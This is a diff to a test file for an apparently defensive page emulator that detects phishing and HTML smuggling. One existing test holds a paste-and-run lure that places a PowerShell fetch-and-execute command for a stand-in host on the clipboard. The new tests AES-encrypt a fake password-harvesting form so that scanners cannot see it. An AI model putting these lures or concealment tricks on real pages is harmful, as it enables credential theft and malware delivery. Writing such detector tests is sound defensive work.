@@ -1,5 +1,6 @@
 // Harmless pages of our own that do what phishing pages and smuggling pages do, and ordinary ones that do not.
 import assert from 'node:assert/strict'
+import { createCipheriv, createHash } from 'node:crypto'
 import { test } from 'node:test'
 import { runPage } from '../../src/emulate/js/run-page.ts'
 import { firstSetting } from '../../src/emulate/setting.ts'
@@ -81,6 +82,41 @@ test('a command that is shown beside the keys to press is one to be pasted', asy
     `<p>Press Windows + R, then Ctrl + V</p><pre>powershell -w h irm https://x.example/i|iex</pre><button onclick="navigator.clipboard.writeText('powershell -w h irm https://x.example/i|iex')">I am human</button>`,
   )
   assert.ok(ids.includes('trace_puts_command_in_clipboard'))
+})
+
+const HIDDEN_FORM =
+  '<form action="https://files.example/a.php" method="post"><input name="u"><input type="password" name="p"><button>Sign in</button></form>'
+
+test('what a page deciphers with a key of its own is read: CryptoJS, a password', async () => {
+  const salt = Buffer.from('8 bytes!')
+  const md5 = (last: Buffer): Buffer =>
+    createHash('md5')
+      .update(Buffer.concat([last, Buffer.from('k3y'), salt]))
+      .digest()
+  const first = md5(Buffer.alloc(0))
+  const second = md5(first)
+  const made = createCipheriv('aes-256-cbc', Buffer.concat([first, second]), md5(second))
+  const sealed = Buffer.concat([Buffer.from('Salted__'), salt, made.update(HIDDEN_FORM), made.final()]).toString(
+    'base64',
+  )
+  const { ids } = await seen(
+    script(`document.write(CryptoJS.AES.decrypt("${sealed}", "k3y").toString(CryptoJS.enc.Utf8))`),
+  )
+  assert.ok(ids.includes('trace_takes_form_credentials'), ids.join())
+})
+
+test('what a page deciphers with a key of its own is read: crypto.subtle', async () => {
+  const key = Buffer.from('0123456789abcdef')
+  const made = createCipheriv('aes-128-cbc', key, Buffer.alloc(16))
+  const sealed = Buffer.concat([made.update(HIDDEN_FORM), made.final()]).toString('base64')
+  const { ids } = await seen(
+    script(
+      `(async()=>{const k=await crypto.subtle.importKey('raw',new TextEncoder().encode('0123456789abcdef'),'AES-CBC',false,['decrypt']);` +
+        `const d=await crypto.subtle.decrypt({name:'AES-CBC',iv:new Uint8Array(16)},k,Uint8Array.from(atob('${sealed}'),c=>c.charCodeAt(0)));` +
+        `document.write(new TextDecoder().decode(d))})()`,
+    ),
+  )
+  assert.ok(ids.includes('trace_takes_form_credentials'), ids.join())
 })
 
 test('an HTML application has the objects of a script host', async () => {
